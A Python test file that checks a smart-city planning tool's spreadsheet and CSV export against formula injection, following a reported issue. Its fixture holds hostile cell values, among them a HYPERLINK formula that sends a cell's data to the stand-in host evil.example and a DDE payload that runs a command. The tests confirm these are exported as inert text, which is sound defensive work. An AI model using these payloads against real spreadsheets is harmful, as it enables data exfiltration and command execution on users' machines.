"""Export writes plan text as text, never as a formula (issue 18: a program named
`=HYPERLINK("http://evil.example/?d="&B3,"Klik")` became a live link sending other cells out)."""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import REPO

from smartcity_cli.report import load_valid_plan
from smartcity_cli.sheets_export import export_csv, export_xlsx
from smartcity_cli.sheets_import import run_import

PALU = REPO / "masterplans" / "palu.yaml"
HOSTILE = {
    "Digitalisasi data Kota Palu": '=HYPERLINK("http://evil.example/?d="&B3,"Klik")',
    "Kelurahan cerdas di 46 kelurahan": "+1+cmd|' /C calc'!A0",
    "Kecamatan cerdas di 8 kecamatan": "-2+3",
    "Platform sistem cerdas terintegrasi (integrated smart system platform)": "@SUM(A1:A9)",
}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    text = PALU.read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        quoted = "'" + new.replace("'", "''") + "'"
        assert f"    name: {old}\n" in text
        text = text.replace(f"    name: {old}\n", f"    name: {quoted}\n")
    path = tmp_path / "palu.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_xlsx_cells_hold_text_never_formulas(hostile: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _, plan = load_valid_plan(str(hostile), hostile.parent)
    (tmp_path / "palu.xlsx").write_bytes(export_xlsx(plan, "id", hostile.read_bytes()))
    book = load_workbook(tmp_path / "palu.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {c.value for c in cells if c.column == 2 and c.parent.title == "Programs"}
    assert set(HOSTILE.values()) <= names


def test_libreoffice_opens_the_export_with_no_formula(hostile: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (optional: apt-get install libreoffice-calc)")
    _, plan = load_valid_plan(str(hostile), hostile.parent)
    (tmp_path / "palu.xlsx").write_bytes(export_xlsx(plan, "id", hostile.read_bytes()))
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                    "--convert-to", "fods", "--outdir", str(tmp_path / "lo"), str(tmp_path / "palu.xlsx")],
                   check=True, capture_output=True, timeout=180)  # fmt: skip
    flat = (tmp_path / "lo" / "palu.fods").read_text(encoding="utf-8")
    assert "table:formula" not in flat  # LibreOffice's attribute for a cell holding a formula
    assert (
        "<text:p>=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;B3,&quot;Klik&quot;)</text:p>"
        in flat
    )
    assert "<text:p>-2+3</text:p>" in flat and "<text:p>@SUM(A1:A9)</text:p>" in flat


def test_csv_cells_starting_like_a_formula_get_a_quote_and_import_back_unchanged(
    hostile: Path, tmp_path: Path
) -> None:
    _, plan = load_valid_plan(str(hostile), hostile.parent)
    export_csv(plan, "en", hostile.read_bytes(), tmp_path / "csv")
    text = (tmp_path / "csv" / "programs.csv").read_text(encoding="utf-8-sig")
    assert '\nGOV-01,"\'=HYPERLINK(""http://evil.example/?d=""&B3,""Klik"")",governance,' in text
    assert "\nGOV-04,'-2+3,governance," in text and "\nGOV-02,'@SUM(A1:A9),governance," in text
    assert "\nGOV-03,'+1+cmd|' /C calc'!A0,governance," in text
    result = run_import(
        tmp_path / "csv", hostile, plan=plan, updated=dt.date(2024, 1, 1), dry_run=True
    )
    assert result.edit.edits == ()
